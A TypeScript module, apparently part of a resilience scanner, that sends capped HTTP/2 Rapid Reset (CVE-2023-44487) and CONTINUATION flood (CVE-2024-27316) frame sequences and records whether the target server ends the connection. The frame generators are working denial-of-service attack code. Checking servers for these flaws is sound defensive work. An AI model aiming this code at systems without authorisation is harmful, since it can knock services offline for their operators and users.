import { setTimeout as wait } from 'node:timers/promises'
import type { Target } from '../target.ts'
import { connectedEvent, connectTo } from '../wire/connect.ts'
import {
  continuationFrame,
  FrameReader,
  frameType,
  headersFrame,
  literal,
  pingAck,
  preface,
  requestBlock,
  rstFrame,
  settingsAck,
} from '../wire/h2-frames.ts'

export interface FrameBehaviour {
  /** Frames sent until the server ended the connection, or in all. */
  frames: number
  ended: boolean
}

const batch = 50

/** Sends frames in small batches until the server ends the connection or `most` are sent. */
function abuse(
  target: Target,
  make: (index: number) => Buffer[],
  most: number,
  signal: AbortSignal,
): Promise<FrameBehaviour> {
  return new Promise((resolve) => {
    const socket = connectTo(target, { alpn: ['h2'] })
    let sent = 0
    const state = { over: false }
    const finish = (ended: boolean) => {
      if (state.over) return
      state.over = true
      signal.removeEventListener('abort', abort)
      resolve({ frames: sent, ended })
      socket.destroy()
    }
    const abort = () => finish(false)
    signal.addEventListener('abort', abort, { once: true })
    const reader = new FrameReader((frame) => {
      if (frame.type === frameType.settings && !frame.ack) {
        socket.write(settingsAck())
        if (sent === 0) void send()
      } else if (frame.type === frameType.ping && !frame.ack) socket.write(pingAck(frame.payload))
      else if (frame.type === frameType.goaway) finish(true)
    })
    const send = async () => {
      while (sent < most && !state.over && !signal.aborted) {
        const pieces: Buffer[] = []
        for (let index = 0; index < batch; index++) pieces.push(...make(sent + index))
        socket.write(Buffer.concat(pieces))
        sent += batch
        await wait(10)
      }
      await wait(500)
      finish(false)
    }
    socket.once(connectedEvent(target), () => socket.write(preface()))
    socket.on('data', (chunk: Buffer) => reader.feed(chunk))
    socket.on('error', () => undefined)
    socket.once('close', () => finish(sent > 0))
    setTimeout(() => finish(false), 15_000).unref()
  })
}

/** Streams opened and reset at once, at most 2,000 (CVE-2023-44487). */
export const rapidReset = (target: Target, path: string, signal: AbortSignal): Promise<FrameBehaviour> => {
  const block = requestBlock(target.authority, path, target.secure)
  return abuse(target, (index) => [headersFrame(1 + 2 * index, block), rstFrame(1 + 2 * index)], 2000, signal)
}

/** One header block that never ends, at most 1,000 pieces of about 100 bytes (CVE-2024-27316 and its kin). */
export const continuationFlood = (target: Target, path: string, signal: AbortSignal): Promise<FrameBehaviour> => {
  const block = requestBlock(target.authority, path, target.secure)
  const piece = literal('x-shopwarden', 'resilience'.repeat(8))
  return abuse(
    target,
    (index) => (index === 0 ? [headersFrame(1, block, false)] : [continuationFrame(1, piece)]),
    1000,
    signal,
  )
}
